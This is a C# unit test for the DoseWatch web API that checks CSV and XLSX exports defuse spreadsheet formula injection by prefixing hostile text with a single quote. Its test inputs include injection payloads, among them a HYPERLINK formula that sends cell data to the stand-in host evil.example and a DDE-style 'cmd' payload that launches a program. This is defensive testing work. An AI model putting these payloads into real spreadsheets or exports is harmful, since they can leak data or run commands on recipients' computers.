using DoseWatch.Tests;
using DoseWatch.Web.Api;

namespace DoseWatch.Web.Tests.Api;

/// <summary>
/// Issue #22 item 10: CSV exports are open to formula injection. Device or user text such as <c>=HYPERLINK(…)</c> is
/// written so that a spreadsheet takes it as text (OWASP: a leading single quote), while negative numbers in numeric
/// columns stay numbers. The files are read back by Python's csv module and openpyxl, not by DoseWatch.
/// </summary>
public sealed class CsvInjectionFacts
{
    private static readonly string[] Hostile =
        ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "=1,2"];

    private const string Reader = """
        import csv, io, json, sys, openpyxl
        request = json.load(sys.stdin)
        with open(request["csv"], newline="", encoding="utf-8-sig") as f:
            rows = list(csv.reader(f))
        book = openpyxl.load_workbook(request["xlsx"])
        sheet = book.worksheets[0]
        cells = [[(c.data_type, c.value) for c in row] for row in sheet.iter_rows(min_row=2)]
        json.dump({"csv": rows[1:], "xlsx": cells}, sys.stdout)
        """;

    [Fact]
    public async Task Text_that_starts_like_a_formula_is_neutralised_and_negative_numbers_stay_numbers()
    {
        var table = new ExportTable(["Protocol", "Value"]);
        foreach (var text in Hostile) table.Add(text, -1.5);
        table.Add("-7.25", -0.001);
        table.Add("Head routine", 12.0);
        var folder = Directory.CreateTempSubdirectory("dosewatch-csv-");
        try
        {
            var csvPath = Path.Combine(folder.FullName, "t.csv");
            var xlsxPath = Path.Combine(folder.FullName, "t.xlsx");
            await using (var csv = File.Create(csvPath)) await table.WriteCsvAsync(csv);
            await using (var xlsx = File.Create(xlsxPath)) table.WriteXlsx(xlsx, "T");

            var read = IndependentPython.Run(new { csv = csvPath, xlsx = xlsxPath }, "-c", Reader);

            var rows = read["csv"]!.AsArray().Select(r => r!.AsArray().Select(c => c!.GetValue<string>()).ToArray()).ToList();
            for (var i = 0; i < Hostile.Length; i++)
            {
                // The whole text arrives, behind one single quote: a spreadsheet shows it and runs nothing.
                Assert.Equal("'" + Hostile[i], rows[i][0]);
                Assert.Equal("-1.5", rows[i][1]);
            }
            Assert.Equal(["-7.25", "-0.001"], rows[Hostile.Length]);
            Assert.Equal(["Head routine", "12"], rows[Hostile.Length + 1]);
            // The workbook keeps every text cell a string (never a formula) and the numbers numeric.
            var xlsxRows = read["xlsx"]!.AsArray();
            for (var i = 0; i < Hostile.Length; i++)
            {
                Assert.Equal("s", xlsxRows[i]![0]![0]!.GetValue<string>());
                Assert.Equal(Hostile[i].Replace("\r", "\n", StringComparison.Ordinal), xlsxRows[i]![0]![1]!.GetValue<string>().Replace("\r", "\n", StringComparison.Ordinal));
                Assert.Equal(("n", -1.5), (xlsxRows[i]![1]![0]!.GetValue<string>(), xlsxRows[i]![1]![1]!.GetValue<double>()));
            }
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }
}
